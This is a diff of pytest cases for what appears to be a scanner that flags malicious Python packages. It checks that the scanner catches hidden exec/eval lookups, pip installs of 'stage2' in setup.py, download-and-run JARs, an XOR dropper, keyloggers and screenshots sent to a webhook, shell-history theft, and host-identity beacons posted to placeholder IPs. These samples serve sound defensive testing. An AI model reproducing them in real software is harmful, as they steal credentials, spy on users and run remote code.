@@ -959,3 +959,314 @@ def test_an_inline_lambda_passes_its_argument_to_the_sink_inside() -> None:
     source = "import base64\n(lambda x: exec(base64.b64decode(x)))(BLOB)\n"
     assert "CPL-THR-001" in danger(source)
     assert "CPL-THR-001" not in danger("(lambda x: print(x))(BLOB)\n")
+
+
+# -- recall2: names folded through this file's functions, loops and frames ---------------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a name filled by a loop over literals
+        """
+        字 = str(hex)
+        名 = ""
+        for i in [20, 21, 20]:
+            名 += 字[i]
+        getattr(__builtins__, 名 + "c")("print(1)")
+        """,
+        # a decoder of this file with a parameter, and a helper that looks the name up
+        """
+        def 解(s):
+            return s[::-1]
+        getattr(__builtins__, 解("cexe"))("print(1)")
+        """,
+        """
+        def 运行(函数名, 参数):
+            return getattr(__builtins__, 函数名)(参数)
+        字 = str(hex)
+        运行(字[20] + 字[21] + 字[20] + "c", "print(1)")
+        """,
+        # folds: map of a lambda, functools.reduce, operator.add
+        'n = "".join(map(lambda i: str(hex)[i], [20, 21, 20]))\n'
+        'getattr(__builtins__, n + "c")(1)\n',
+        "import functools\n"
+        "getattr(__builtins__, functools.reduce(lambda a, b: a + b, 'exec'))(1)\n",
+        'import operator\ngetattr(__builtins__, operator.add("ev", "al"))("1")\n',
+        # an attribute given a computed name before it is used
+        """
+        class Step:
+            def run(self):
+                self.n = str(hex)
+                getattr(__builtins__, self.n[20] + self.n[21] + self.n[20] + "c")("1")
+        """,
+        # builtins reached through a frame or a function's globals
+        'import sys\nsys._getframe().f_builtins["ex" + "ec"]("print(1)")\n',
+        '(lambda: 0).__globals__["__builtins__"].__dict__["ev" + "al"]("1")\n',
+    ],
+)
+def test_names_folded_through_functions_loops_and_frames_are_computed(source: str) -> None:
+    assert "CPL-THR-003" in danger(source, "setup.py")
+    assert "CPL-THR-003" in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a helper given literal names is dispatch, not hiding
+        """
+        import builtins
+        def get(name):
+            return getattr(builtins, name)
+        get("open")
+        get("print")
+        """,
+        # a helper called with a name read at run time
+        """
+        import builtins
+        def get(name):
+            return getattr(builtins, name)
+        get(input())
+        """,
+        # a loop over names read at run time
+        """
+        import builtins, sys
+        for n in sys.argv:
+            getattr(builtins, n)
+        """,
+        "import sys\nbuiltins = sys._getframe().f_builtins\nprint(len(builtins))\n",
+    ],
+)
+def test_dispatch_by_literal_or_run_time_names_is_not_computed(source: str) -> None:
+    assert "CPL-THR-003" not in danger(source, "setup.py")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        'import pip\npip.main(args=["install", "https://files.example/s.tar.gz"])\n',
+        """
+        from pip._internal import main as 装
+        参数 = []
+        参数.append("install")
+        参数.append("stage2")
+        装(参数)
+        """,
+    ],
+)
+def test_pip_given_install_by_keyword_or_by_a_list_filled_later_is_a_threat(source: str) -> None:
+    assert "CPL-THR-019" in danger(source, "setup.py")
+
+
+@pytest.mark.parametrize(
+    "runner", ['["java", "-jar", jar]', 'f"javaw -jar {jar}"', '["node", jar]']
+)
+def test_a_downloaded_file_started_by_a_runtime_is_download_and_run(runner: str) -> None:
+    source = f"""
+    import os, subprocess, requests
+    jar = os.path.join(os.getenv("TEMP"), "JavaUpdater.jar")
+    with open(jar, "wb") as f:
+        f.write(requests.get("https://files.example/u.jar").content)
+    subprocess.Popen({runner}, shell=True)
+    """
+    assert "CPL-THR-002" in danger(source)
+
+
+def test_a_shipped_jar_started_by_java_is_not_download_and_run() -> None:
+    source = """
+    import os, subprocess
+    jar = os.path.join(os.path.dirname(__file__), "tool.jar")
+    subprocess.run(["java", "-jar", jar, "--version"], check=True)
+    """
+    assert danger(source) == set()
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # builtins' namespace picked in and out of __main__: every idiom
+        "b = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)\n"
+        'b["ev" + "al"]("1")\n',
+        "b = isinstance(__builtins__, dict) and __builtins__ or vars(__builtins__)\n"
+        'b["ev" + "al"]("1")\n',
+        'b = (vars(__builtins__), __builtins__)[type(__builtins__) is dict]\nb["ev" + "al"]("1")\n',
+        "b = {True: __builtins__, False: vars(__builtins__)}[isinstance(__builtins__, dict)]\n"
+        'b["ev" + "al"]("1")\n',
+        'import sys\ngetattr(sys.modules[__name__].__builtins__, "ev" + "al")("1")\n',
+        'getattr(print.__self__, "ev" + "al")("1")\n',
+        "try:\n    import __builtin__ as b\nexcept ImportError:\n    import builtins as b\n"
+        'getattr(b, "ev" + "al")("1")\n',
+        'for b in [__builtins__]:\n    getattr(b, "ev" + "al")("1")\n',
+        'g = vars(__builtins__).get\ng("ev" + "al")("1")\n',
+        # a network module's function named backwards
+        'import requests\ngetattr(requests, "tsop"[::-1])("https://c.example/", data=d)\n',
+        'import socket\ngetattr(socket, "noitcennoc_etaerc"[::-1])(("192.0.2.1", 80))\n',
+        '__import__("lituhs"[::-1]).copy(src, dst)\n',
+    ],
+)
+def test_builtins_and_watched_modules_reached_by_any_idiom_are_looked_up(source: str) -> None:
+    assert "CPL-THR-003" in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # urllib3's TLS versions: names written out, enumerated by a loop
+        'import ssl\nfor attr in ("TLSv1", "TLSv1_1"):\n    getattr(ssl, f"PROTOCOL_{attr}")\n',
+        # a pick between two harmless tables
+        'import json\nf = (json.dumps, repr)[pretty]\nf("x" + "y")\n',
+        # a module's constants spelled from pieces
+        'import socket\nflag = getattr(socket, "SO_" + "REUSEADDR")\n',
+        # a parameter named like one elsewhere that is a local
+        "import subprocess\n"
+        "def wrap(original_name):\n"
+        "    def run(*a):\n"
+        "        return getattr(subprocess, original_name)(*a)\n"
+        "    return run\n"
+        "def patch(funcname):\n"
+        '    original_name = "original_" + funcname\n'
+        "    return original_name\n",
+    ],
+)
+def test_enumerated_or_plain_names_on_watched_modules_are_not_hidden(source: str) -> None:
+    assert "CPL-THR-003" not in danger(source)
+
+
+def test_pip_installed_when_a_package_is_imported_is_a_threat_but_a_benchmark_is_not() -> None:
+    install = (
+        'import subprocess, sys\nsubprocess.call([sys.executable, "-m", "pip", "install", "x"])\n'
+    )
+    assert "CPL-THR-019" in danger(install, "pkg/__init__.py")
+    url = 'import os\nos.system("pip install https://files.example/x-1.0.tar.gz")\n'
+    assert "CPL-THR-019" in danger(url, "pkg/helpers.py")
+    # a script installing the library it measures, and a helper called on demand
+    assert "CPL-THR-019" not in danger(install, "bench/run.py")
+    on_demand = (
+        "import subprocess, sys\ndef ensure():\n"
+        '    subprocess.call([sys.executable, "-m", "pip", "install", "x"])\n'
+    )
+    assert "CPL-THR-019" not in danger(on_demand, "pkg/__init__.py")
+    assert "CPL-THR-019" not in danger(url, "tests/test_install.py")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        """
+        from pynput import keyboard
+        import requests
+        keys = []
+        def press(k):
+            keys.append(str(k))
+            requests.post("https://198.51.100.3/k", data={"k": "".join(keys)})
+        keyboard.Listener(on_press=press).start()
+        """,
+        """
+        import io, requests
+        from PIL import ImageGrab
+        buf = io.BytesIO()
+        ImageGrab.grab().save(buf, "PNG")
+        requests.post("https://discord.com/api/webhooks/1/x", files={"f": buf.getvalue()})
+        """,
+    ],
+)
+def test_keystrokes_or_screens_sent_to_a_fixed_host_are_exfiltration(source: str) -> None:
+    assert danger(source) & {"CPL-THR-017", "CPL-THR-004"}
+
+
+def test_a_screenshot_tool_that_sends_nothing_is_not_exfiltration() -> None:
+    source = """
+    import pyautogui
+    def capture(path):
+        pyautogui.screenshot().save(path)
+    """
+    assert danger(source) == set()
+
+
+def test_bytecode_loaded_from_a_file_is_a_threat_and_source_plugins_are_not() -> None:
+    pyc = """
+    import importlib.util, os
+    spec = importlib.util.spec_from_file_location("m", os.path.join(HERE, "m.pyc"))
+    spec.loader.exec_module(importlib.util.module_from_spec(spec))
+    """
+    assert "CPL-THR-027" in danger(pyc)
+    source = pyc.replace("m.pyc", "m.py")
+    assert "CPL-THR-027" not in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        'import subprocess, requests\nhw = subprocess.check_output("wmic csproduct get uuid")\n'
+        'requests.post("http://198.51.100.12/r", data={"hw": hw})\n',
+        'import os, urllib.request\nme = os.popen("whoami && ipconfig").read()\n'
+        'urllib.request.urlopen("http://198.51.100.12/r", data=me.encode())\n',
+        "import subprocess, requests\n"
+        'out = subprocess.run(["systeminfo"], capture_output=True).stdout\n'
+        'requests.post("http://198.51.100.12/r", data=out)\n',
+    ],
+)
+def test_the_output_of_a_host_identity_program_sent_out_is_a_beacon(source: str) -> None:
+    assert "CPL-THR-017" in danger(source)
+
+
+def test_a_program_output_that_is_not_the_hosts_identity_is_not_a_beacon() -> None:
+    source = (
+        'import subprocess, requests\nv = subprocess.check_output(["git", "describe"])\n'
+        'requests.post("https://api.example.com/builds", data={"v": v})\n'
+    )
+    assert "CPL-THR-017" not in danger(source)
+
+
+def test_a_shell_history_posted_to_a_fixed_host_is_credential_theft() -> None:
+    source = (
+        "import os, requests\n"
+        'h = open(os.path.expanduser("~/.bash_history")).read()\n'
+        'requests.post("http://198.51.100.12:8080/u", data=h)\n'
+    )
+    assert "CPL-THR-007" in danger(source)
+    # the same history read by a tool that sends nothing is not theft
+    assert "CPL-THR-007" not in danger(source.replace("requests.post", "print"))
+
+
+def test_a_packaged_file_xored_written_and_started_is_a_dropper_in_any_module() -> None:
+    source = """
+    import os, subprocess
+    here = os.path.dirname(__file__)
+    blob = open(os.path.join(here, "IconCache.dat"), "rb").read()
+    exe = bytes(b ^ 0x5A for b in blob)
+    path = os.path.join(os.getenv("APPDATA"), "svc.exe")
+    with open(path, "wb") as f:
+        f.write(exe)
+    subprocess.Popen([path])
+    """
+    assert "CPL-THR-001" in danger(source, "pkg/loader.py")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'os.popen("pip3 install --user stage2")',
+        'os.system("pip3.11 install stage2")',
+        'subprocess.check_call(f"{sys.executable} -m pip install {name}", shell=True)',
+    ],
+)
+def test_pip_by_any_name_or_in_a_formatted_command_is_an_install(command: str) -> None:
+    source = f"import os, subprocess, sys\nname = 'stage2'\n{command}\n"
+    assert "CPL-THR-019" in danger(source, "setup.py")
+
+
+@pytest.mark.parametrize("filename", ["setup.py", "pkg/__init__.py"])
+def test_a_name_kept_in_a_class_of_the_file_is_computed(filename: str) -> None:
+    source = """
+    class 配置:
+        名 = str(hex)[20] + "xec"
+        版本 = "1.0"
+
+
+    getattr(__builtins__, 配置.名)("print(1)")
+    """
+    assert "CPL-THR-003" in danger(source, filename)
+    # a class's setting naming something harmless is no hidden name
+    harmless = 'import os\nclass C:\n    sep = "se" + "p"\nvalue = getattr(os, C.sep)\n'
+    assert "CPL-THR-003" not in danger(harmless, filename)
